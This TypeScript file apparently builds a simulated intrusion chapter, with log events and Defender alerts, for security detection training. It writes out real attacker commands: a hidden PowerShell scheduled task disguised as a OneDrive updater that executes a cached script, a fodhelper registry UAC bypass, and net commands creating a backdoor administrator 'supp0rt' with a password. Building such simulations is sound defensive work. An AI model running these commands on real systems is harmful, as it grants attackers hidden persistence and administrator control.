import { changeAccount, changeMembership, GROUPS } from '../events/account-change';
import type { LogonSession } from '../events/logon';
import { taskAuthor, taskEvent, type ScheduledTask } from '../events/task';
import { on } from '../moment';
import { CAST } from './cast';
import { encodedCommand, TOOLS } from './encoded-command';
import type { Foothold } from './foothold';
import type { Stage, Told } from './stage';

/** What the planted task runs every evening. */
export const TASK_SCRIPT =
  'Start-Sleep 30; Get-Content $env:APPDATA\\Sync\\cache.dat -Raw | Invoke-Expression';

/** The planted task: it borrows the look of a vendor's updater. */
export const PLANTED_TASK: ScheduledTask = {
  name: '\\OneDrive Sync Standalone Update',
  author: 'LARKMOOR\\p.lindqvist',
  command: 'powershell.exe',
  argument: `-W Hidden -NoP -EncodedCommand ${encodedCommand(TASK_SCRIPT)}`,
  daily: '22:05:00',
  runAs: 'LARKMOOR\\p.lindqvist',
  highest: true,
};

const plantTask = (stage: Stage, { stager }: Foothold): Told => {
  const { system32 } = TOOLS;
  const command =
    `schtasks.exe /create /f /sc daily /st 22:05 /rl highest /tn "OneDrive Sync Standalone Update" ` +
    `/tr "powershell.exe ${PLANTED_TASK.argument}"`;
  const tool = stage.start(stager, on(15, '09:41:33.1280000'), `${system32}schtasks.exe`, command);
  const task = { ...PLANTED_TASK, author: taskAuthor(stager.session) };
  taskEvent(stage.log, CAST.patientZero, on(15, '09:41:33.4020000'), {
    id: 4698,
    session: stager.session,
    task,
  });
  return tool;
};

/** The elevated half of the victim's session: finance users are still local administrators. */
const bypass = (stage: Stage, { stager }: Foothold): Told => {
  const { system32, cmd } = TOOLS;
  const session: LogonSession = {
    ...stager.session,
    logonId: stage.logon(CAST.patientZero),
    elevation: 'elevated',
  };
  const registry =
    'reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "cmd.exe /k" /f';
  stage.start(stager, on(15, '09:54:40.5500000'), `${system32}reg.exe`, registry);
  const helper = stage.start(
    stager,
    on(15, '09:55:02.0170000'),
    `${system32}fodhelper.exe`,
    `"${system32}fodhelper.exe"`,
    session,
  );
  return stage.start(helper, on(15, '09:55:02.6640000'), cmd, '"cmd.exe" /k');
};

const plantAccount = (stage: Stage, shell: Told): Told => {
  const { patientZero: host, plantedAccount: account } = CAST;
  const { system32 } = TOOLS;
  const { log } = stage;
  const { session } = shell;
  const add = stage.start(
    shell,
    on(15, '10:02:11.3300000'),
    `${system32}net.exe`,
    'net user supp0rt S0mmer!2026 /add /comment:"Vendor support"',
  );
  stage.start(
    add,
    on(15, '10:02:11.3910000'),
    `${system32}net1.exe`,
    `${system32}net1 user supp0rt S0mmer!2026 /add /comment:"Vendor support"`,
  );
  const steps = [
    ['10:02:11.4720000', 4720],
    ['10:02:11.4790000', 4722],
    ['10:02:11.4860000', 4738],
    ['10:02:11.4930000', 4724],
  ] as const;
  for (const [time, id] of steps) changeAccount(log, host, on(15, time), { id, session, account });
  const groups = [
    ['10:02:44', GROUPS.administrators],
    ['10:03:05', GROUPS.remoteDesktop],
  ] as const;
  for (const [time, group] of groups) {
    stage.start(
      shell,
      on(15, `${time}.1000000`),
      `${system32}net.exe`,
      `net localgroup "${group.name}" supp0rt /add`,
    );
    changeMembership(log, host, on(15, `${time}.2250000`), { id: 4732, session, member: account, group });
  }
  return add;
};

const alerts = (stage: Stage, task: Told, account: Told): void => {
  const about = CAST.patientZero.name;
  const product = 'Microsoft Defender for Cloud';
  stage.alert({
    key: 'alert scheduled task',
    name: 'Suspicious scheduled task created',
    severity: 'Medium',
    description:
      'A scheduled task that runs hidden PowerShell every day was registered under the name of an updater.',
    product,
    type: 'VM_SuspiciousScheduledTask',
    start: task.started,
    end: on(15, '09:41:34'),
    tactics: 'Persistence',
    techniques: ['T1053.005'],
    about,
    properties: { 'Task Name': PLANTED_TASK.name, 'Command Line': task.command },
    entities: (graph) => void graph.process(task, task.command),
  });
  stage.alert({
    key: 'alert local administrator',
    name: 'New local account added to Administrators',
    severity: 'High',
    description: 'A local account was created and added to the local Administrators group within a minute.',
    product,
    type: 'VM_LocalAdministratorAdded',
    start: on(15, '10:02:11'),
    end: on(15, '10:02:45'),
    tactics: 'Persistence,PrivilegeEscalation',
    techniques: ['T1136.001', 'T1098'],
    about,
    properties: { 'New Account': 'FIN-WS07\\supp0rt', 'Created By': 'LARKMOOR\\p.lindqvist' },
    entities: (graph) => {
      graph.account(CAST.plantedAccount, CAST.patientZero);
      graph.process(account, account.command);
    },
  });
};

/** Chapter 3, 15 September 09:41: a scheduled task, then a local administrator `supp0rt`, on FIN-WS07. Gives the elevated shell. */
export function persistence(stage: Stage, foothold: Foothold): Told {
  const task = plantTask(stage, foothold);
  const shell = bypass(stage, foothold);
  const account = plantAccount(stage, shell);
  alerts(stage, task, account);
  return shell;
}
